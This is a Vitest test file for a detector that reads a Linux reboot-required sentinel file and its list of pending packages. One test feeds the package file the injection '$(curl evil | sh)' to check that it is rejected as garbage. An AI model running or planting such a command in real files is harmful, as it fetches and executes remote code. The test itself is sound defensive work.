import { mkdirSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SentinelFileDetector } from '../../../../agent/adapters/sentinel-file-detector.ts';
import { MAX_PACKAGE_FILE_BYTES } from '../../../../agent/core/package-list.ts';
import { DetectionError } from '../../../../agent/ports/detector.ts';
import { tempDirs } from '../../../support/temp-dirs.ts';

const dirs = tempDirs();
let sentinel: string;
let detector: SentinelFileDetector;

beforeEach(() => {
  sentinel = join(dirs.make('patchwindow-sentinel-'), 'reboot-required');
  detector = new SentinelFileDetector(sentinel);
});

afterEach(() => {
  dirs.removeAll();
});

describe('SentinelFileDetector', () => {
  it('sees no pending reboot while the file is absent', async () => {
    expect(await detector.scan()).toEqual({ pending: false, reason: 'SentinelFile', packages: [], evidence: `${sentinel} is absent` });
  });

  it('sees none either when the directory itself is gone', async () => {
    const gone = new SentinelFileDetector('/nonexistent-patchwindow-dir/reboot-required');
    expect((await gone.scan()).pending).toBe(false);
  });

  it('sees a pending reboot when the file exists, dated by its modification time, with its packages', async () => {
    writeFileSync(sentinel, '*** System restart required ***\n');
    utimesSync(sentinel, new Date('2026-03-10T07:58:00Z'), new Date('2026-03-10T07:58:00Z'));
    writeFileSync(`${sentinel}.pkgs`, 'linux-image-6.1.0-18-amd64\nlibc6\n');
    expect(await detector.scan()).toEqual({
      pending: true,
      reason: 'SentinelFile',
      packages: ['linux-image-6.1.0-18-amd64', 'libc6'],
      pendingSince: new Date('2026-03-10T07:58:00Z'),
      evidence: `${sentinel} exists`,
      warning: undefined,
    });
  });

  it('reports no packages and no warning when the package file is missing or empty', async () => {
    writeFileSync(sentinel, '');
    expect(await detector.scan()).toMatchObject({ pending: true, packages: [], warning: undefined });
    writeFileSync(`${sentinel}.pkgs`, '');
    expect(await detector.scan()).toMatchObject({ pending: true, packages: [], warning: undefined });
  });

  it('reads only the start of a huge package file and says so', async () => {
    writeFileSync(sentinel, '');
    const line = 'linux-modules-extra-6.1.0-18-amd64\n';
    writeFileSync(`${sentinel}.pkgs`, line.repeat(Math.ceil((4 * MAX_PACKAGE_FILE_BYTES) / line.length)));
    const observation = await detector.scan();
    expect(observation.packages).toEqual(['linux-modules-extra-6.1.0-18-amd64']);
    expect(observation.warning).toBe(`${sentinel}.pkgs: larger than 64 KiB; only the packages in its start are reported`);
  });

  it('leaves out garbage lines and says so', async () => {
    writeFileSync(sentinel, '');
    writeFileSync(`${sentinel}.pkgs`, 'libc6\n$(curl evil | sh)\n');
    expect(await detector.scan()).toMatchObject({ packages: ['libc6'], warning: `${sentinel}.pkgs: some lines are not package names and were left out` });
  });

  it('reports no packages from a binary file', async () => {
    writeFileSync(sentinel, '');
    writeFileSync(`${sentinel}.pkgs`, Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x00, 0x00, 0xff]));
    expect(await detector.scan()).toMatchObject({ pending: true, packages: [], warning: `${sentinel}.pkgs: not a text file; no packages reported` });
  });

  it('reports no packages when the package "file" is a directory', async () => {
    writeFileSync(sentinel, '');
    mkdirSync(`${sentinel}.pkgs`);
    expect(await detector.scan()).toMatchObject({ pending: true, packages: [], warning: `${sentinel}.pkgs: not a regular file; no packages reported` });
  });

  it('fails the scan when the sentinel cannot be checked (a file where its directory should be is absence, not an error)', async () => {
    writeFileSync(join(sentinel, '..', 'plain-file'), '');
    const underFile = new SentinelFileDetector(join(sentinel, '..', 'plain-file', 'reboot-required'));
    expect((await underFile.scan()).pending).toBe(false);
    const tooLong = new SentinelFileDetector(`/${'x'.repeat(5000)}`);
    await expect(tooLong.scan()).rejects.toBeInstanceOf(DetectionError);
  });
});
